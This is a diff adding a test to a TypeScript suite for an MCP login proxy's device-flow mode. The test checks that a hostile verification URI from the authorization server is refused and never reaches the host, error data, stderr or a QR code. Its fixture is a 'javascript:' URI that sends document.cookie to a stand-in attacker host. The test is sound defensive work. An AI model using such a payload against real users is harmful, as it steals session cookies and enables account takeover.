@@ -14,7 +14,7 @@ import {
   type ServerResult,
 } from '@modelcontextprotocol/sdk/types.js';
 
-import { approveDevice } from '../harness/index.js';
+import { approveDevice, discover } from '../harness/index.js';
 import { isAlive } from '../support/process.js';
 import { proxyEnv, type ProxyEnv, text } from '../support/proxy-env.js';
 import { latchkey } from '../support/spawn-cli.js';
@@ -275,6 +275,66 @@ describe('latchkey proxy --device: a headless login from inside the host', () =>
       const host = await other.host(['--device']);
       assert.equal(text(await host.client.callTool({ name: 'whoami', arguments: {} })), 'late-user');
     } finally {
+      await other.close();
+    }
+  });
+
+  it('a hostile verification_uri (javascript:) never reaches the host: no -32040 data with it, no QR code', async () => {
+    const other = await proxyEnv({ accessTokenTtl: 300, deviceFlowInterval: 1 });
+    const endpoint = new URL((await discover(other.as.issuer)).device_authorization_endpoint ?? '');
+    const hostile = 'javascript:fetch("//evil.example/"+document.cookie)';
+    const fault = other.asProxy.inject({
+      path: endpoint.pathname,
+      action: {
+        type: 'garbage',
+        status: 200,
+        body: JSON.stringify({
+          device_code: 'hostile-device-code',
+          user_code: 'EVIL-CODE',
+          verification_uri: hostile,
+          verification_uri_complete: `${hostile}?user_code=EVIL-CODE`,
+          expires_in: 600,
+          interval: 1,
+        }),
+      },
+    });
+    const host = new PatientHost([other.url, '--device'], other.env);
+    try {
+      await host.attach();
+      const deadline = Date.now() + 30_000;
+      let refused: unknown;
+      let data: DeviceData | undefined;
+      // The login agent runs in its own process: ask until its refusal (not "pending") is known.
+      do {
+        refused = await host.initialize().then(
+          () => undefined,
+          (error: unknown) => error,
+        );
+        assert.ok(refused instanceof McpError, `not an McpError: ${String(refused)}\n${host.stderr()}`);
+        data = latchkeyData(refused);
+        if (data.userCode === undefined && fault.hits > 0 && /the device login failed/.test(refused.message))
+          break;
+        assert.equal(data.verificationUri, undefined, 'the hostile URI was handed to the host');
+        await pause(250);
+      } while (Date.now() < deadline);
+      assert.ok(refused instanceof McpError && data !== undefined);
+      assert.ok(fault.hits >= 1, 'the AS sent the hostile device authorization');
+      // The agent refused the flow (device-authorization.test.ts shows its full error); the
+      // proxy learns its code from the store and says it, with how to see the rest.
+      assert.match(refused.message, /the device login failed \(DISCOVERY_FAILED\)/, refused.message);
+      assert.match(refused.message, /--device/);
+      assert.equal(refused.code, -32040);
+      assert.match(refused.message, escape(other.url));
+      assert.equal(data.server, other.url);
+      assert.equal(data.verificationUri, undefined);
+      assert.equal(data.verificationUriComplete, undefined);
+      assert.equal(data.userCode, undefined);
+      const everything = JSON.stringify({ message: refused.message, data: refused.data }) + host.stderr();
+      assert.ok(!everything.includes('javascript:'), 'the hostile URI is nowhere: error, data or stderr');
+      assert.doesNotMatch(host.stderr(), /[▀▄█]{4}/, 'no QR code was drawn');
+      assert.equal(other.as.counters.count('device_code'), 0, 'nothing was polled');
+    } finally {
+      await host.close();
       await other.close();
     }
   });
